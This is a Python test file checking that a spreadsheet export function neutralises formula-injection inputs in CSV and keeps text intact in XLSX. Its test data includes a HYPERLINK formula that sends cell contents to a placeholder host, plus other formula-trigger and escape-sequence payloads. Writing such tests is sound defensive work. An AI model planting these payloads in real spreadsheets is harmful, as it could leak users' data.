"""CSV and XLSX files: text stays text."""

import csv
from datetime import UTC, datetime
from io import StringIO

import pytest

from knobel.spreadsheets import table_bytes
from tests.spreadsheets import read_xlsx

COLUMNS = {"name": str, "points": int, "share": float, "won": bool, "time": datetime}
FORMULAS = (
    '=HYPERLINK("http://x/?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "http://x.example/", "007",
    "Ann", "", "'x", "{=1}", "\x1b[2J", 'a"b,c;d\ne', "ශ්\u200dරී",
)  # fmt: skip
TIME = datetime(2026, 5, 4, 18, 30, tzinfo=UTC)
ROWS = [{"name": name, "points": -3, "share": None, "won": True, "time": TIME} for name in FORMULAS]


def test_csv_has_no_formulas() -> None:
    data = table_bytes("csv", COLUMNS, ROWS)
    assert data.startswith(b"\xef\xbb\xbf")
    head, *rows = csv.reader(StringIO(data.decode("utf-8-sig"), newline=""))
    assert head == list(COLUMNS)
    assert [name for name, *_ in rows] == [
        f"'{name}" if name[:1] in [*"=+-@\t\r\n＝"] and name else name for name in FORMULAS
    ]
    assert {tuple(values) for _, *values in rows} == {("-3", "", "true", "2026-05-04T18:30:00.000+00:00")}


def test_xlsx_keeps_every_text() -> None:
    head, *rows = read_xlsx(table_bytes("xlsx", COLUMNS, ROWS))
    assert head == list(COLUMNS)
    # The escapes are those of the format for control characters.
    assert [row[0] or "" for row in rows] == [
        name.replace("\x1b", "_x001B_").replace("\r", "_x000D_") for name in FORMULAS
    ]
    assert all(row[1:] == [-3.0, None, True, pytest.approx(46146.770833)] for row in rows)
